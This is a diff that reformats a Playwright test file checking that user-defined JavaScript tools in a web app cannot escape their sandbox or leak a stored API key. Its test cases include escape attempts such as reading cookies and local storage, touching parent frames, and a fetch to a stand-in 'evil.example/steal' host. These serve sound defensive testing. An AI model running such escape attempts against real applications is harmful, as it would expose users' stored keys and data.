@@ -9,29 +9,75 @@ import { storedAppState } from './support/stored-rows';
 
 const STORED = 'sk-stored-key-must-not-leak';
 
-type Escape = { name: string; code: string; expect: RegExp; timeoutMs?: number; allowedOrigins?: string[]; ok?: boolean };
+type Escape = {
+  name: string;
+  code: string;
+  expect: RegExp;
+  timeoutMs?: number;
+  allowedOrigins?: string[];
+  ok?: boolean;
+};
 
 const escapes: Escape[] = [
-  { name: 'read_local_storage', code: 'return JSON.stringify(localStorage);', expect: /ReferenceError: .*localStorage.* is not defined/ },
-  { name: 'open_indexeddb', code: 'return indexedDB.open("toolscope");', expect: /ReferenceError: .*indexedDB.* is not defined/ },
+  {
+    name: 'read_local_storage',
+    code: 'return JSON.stringify(localStorage);',
+    expect: /ReferenceError: .*localStorage.* is not defined/,
+  },
+  {
+    name: 'open_indexeddb',
+    code: 'return indexedDB.open("toolscope");',
+    expect: /ReferenceError: .*indexedDB.* is not defined/,
+  },
   { name: 'read_cookie', code: 'return document.cookie;', expect: /ReferenceError: .*document.* is not defined/ },
   { name: 'touch_parent', code: 'return parent.location.href;', expect: /ReferenceError: .*parent.* is not defined/ },
-  { name: 'touch_top', code: 'top.postMessage("hi", "*"); return 1;', expect: /ReferenceError: .*top.* is not defined/ },
+  {
+    name: 'touch_top',
+    code: 'top.postMessage("hi", "*"); return 1;',
+    expect: /ReferenceError: .*top.* is not defined/,
+  },
   { name: 'touch_self', code: 'self.postMessage("hi"); return 1;', expect: /ReferenceError: .*self.* is not defined/ },
-  { name: 'global_post_message', code: 'globalThis.postMessage("hi"); return 1;', expect: /TypeError: .*not a function/ },
-  { name: 'fetch_without_origins', code: 'return await (await fetch("https://example.com/")).text();', expect: /fetch.* is not defined[\s\S]*no network access/ },
+  {
+    name: 'global_post_message',
+    code: 'globalThis.postMessage("hi"); return 1;',
+    expect: /TypeError: .*not a function/,
+  },
+  {
+    name: 'fetch_without_origins',
+    code: 'return await (await fetch("https://example.com/")).text();',
+    expect: /fetch.* is not defined[\s\S]*no network access/,
+  },
   {
     name: 'fetch_disallowed_origin',
     code: 'return await (await fetch("https://evil.example/steal")).text();',
     allowedOrigins: ['https://allowed.example'],
-    expect: /fetch blocked: https:\/\/evil\.example is not in this tool's allowed origins \(https:\/\/allowed\.example\)/,
+    expect:
+      /fetch blocked: https:\/\/evil\.example is not in this tool's allowed origins \(https:\/\/allowed\.example\)/,
   },
   { name: 'loop_forever', code: 'for (;;) {}', timeoutMs: 1000, expect: /Timed out after 1000 ms/ },
-  { name: 'allocate_forever', code: 'const a = []; for (;;) a.push({ i: a.length, s: "v" + a.length });', timeoutMs: 60_000, expect: /Out of memory: the sandbox is limited to 64 MB/ },
-  { name: 'huge_string', code: 'return "x".repeat(5_000_000);', ok: true, expect: /\n…\[output truncated: 4934464 bytes omitted\]$/ },
+  {
+    name: 'allocate_forever',
+    code: 'const a = []; for (;;) a.push({ i: a.length, s: "v" + a.length });',
+    timeoutMs: 60_000,
+    expect: /Out of memory: the sandbox is limited to 64 MB/,
+  },
+  {
+    name: 'huge_string',
+    code: 'return "x".repeat(5_000_000);',
+    ok: true,
+    expect: /\n…\[output truncated: 4934464 bytes omitted\]$/,
+  },
   { name: 'return_function', code: 'return function steal() {};', expect: /returned a function/ },
-  { name: 'return_cyclic', code: 'const o = { a: 1 }; o.self = o; return o;', expect: /not JSON-serialisable[\s\S]*cyclic/ },
-  { name: 'throw_error', code: 'function deep() { throw new Error("boom from tool"); }\ndeep();', expect: /Error: boom from tool[\s\S]*deep/ },
+  {
+    name: 'return_cyclic',
+    code: 'const o = { a: 1 }; o.self = o; return o;',
+    expect: /not JSON-serialisable[\s\S]*cyclic/,
+  },
+  {
+    name: 'throw_error',
+    code: 'function deep() { throw new Error("boom from tool"); }\ndeep();',
+    expect: /Error: boom from tool[\s\S]*deep/,
+  },
 ];
 
 test('code tools cannot escape the sandbox, and the app and its stored key are untouched', async ({ page, mock }) => {
@@ -48,7 +94,12 @@ test('code tools cannot escape the sandbox, and the app and its stored key are u
 
   for (const escape of escapes) {
     await test.step(escape.name, async () => {
-      await createCodeTool(page, { name: escape.name, code: escape.code, timeoutMs: escape.timeoutMs, allowedOrigins: escape.allowedOrigins });
+      await createCodeTool(page, {
+        name: escape.name,
+        code: escape.code,
+        timeoutMs: escape.timeoutMs,
+        allowedOrigins: escape.allowedOrigins,
+      });
       const before = await storedAppState(page);
       const result = await tryIt(page, {}, (escape.timeoutMs ?? 30_000) + 10_000);
       expect(result.ok, `${escape.name}: ${result.text.slice(0, 300)}`).toBe(escape.ok ?? false);
@@ -81,7 +132,12 @@ test('arguments are validated live against the schema before Run', async ({ page
   await createCodeTool(page, {
     name: 'needs_city',
     code: 'return "weather in " + args.city;',
-    parameters: { type: 'object', properties: { city: { type: 'string' } }, required: ['city'], additionalProperties: false },
+    parameters: {
+      type: 'object',
+      properties: { city: { type: 'string' } },
+      required: ['city'],
+      additionalProperties: false,
+    },
   });
   const args = page.getByRole('textbox', { name: 'Arguments (JSON)' });
   await args.fill('{"town": 1}');
@@ -103,15 +159,22 @@ test('the editor shows definition errors next to the fields and keeps names uniq
   await page.getByRole('textbox', { name: 'Tool name' }).fill('bad name');
   await expect(page.getByRole('alert').filter({ hasText: 'Use 1–64 letters' })).toBeVisible();
   await page.getByRole('textbox', { name: 'Tool name' }).fill('current_time');
-  await expect(page.getByRole('alert').filter({ hasText: 'Another tool is already named "current_time".' })).toBeVisible();
-  await page.getByRole('textbox', { name: 'Parameters (JSON Schema)' }).fill('{"type": "object", "properties": {"a": {"type": "strin"}}}');
+  await expect(
+    page.getByRole('alert').filter({ hasText: 'Another tool is already named "current_time".' }),
+  ).toBeVisible();
+  await page
+    .getByRole('textbox', { name: 'Parameters (JSON Schema)' })
+    .fill('{"type": "object", "properties": {"a": {"type": "strin"}}}');
   await expect(page.getByRole('alert').filter({ hasText: /properties\/a\/type/ })).toBeVisible();
   await page.getByRole('textbox', { name: 'Parameters (JSON Schema)' }).fill('{"type": ');
   await expect(page.getByRole('alert').filter({ hasText: /Not valid JSON/ })).toBeVisible();
 
   // Built-in: current_time runs through the same path. The draft's edits are unsaved, so leaving it asks first.
   await list.getByRole('button', { name: 'current_time' }).click();
-  await page.getByRole('dialog', { name: 'Unsaved changes to current_time' }).getByRole('button', { name: 'Discard' }).click();
+  await page
+    .getByRole('dialog', { name: 'Unsaved changes to current_time' })
+    .getByRole('button', { name: 'Discard' })
+    .click();
   const time = await tryIt(page, {});
   expect(time.ok).toBe(true);
   expect(JSON.parse(time.text)).toHaveProperty('timeZone');
@@ -134,5 +197,7 @@ test('the editor shows definition errors next to the fields and keeps names uniq
   await page.reload();
   await openToolsTab(page);
   await expect(page.getByRole('list', { name: 'Tool list' }).getByRole('button', { name: 'js_eval' })).toBeVisible();
-  await expect(page.getByRole('list', { name: 'Tool list' }).getByRole('button', { name: 'current_time' })).toHaveCount(0);
+  await expect(page.getByRole('list', { name: 'Tool list' }).getByRole('button', { name: 'current_time' })).toHaveCount(
+    0,
+  );
 });
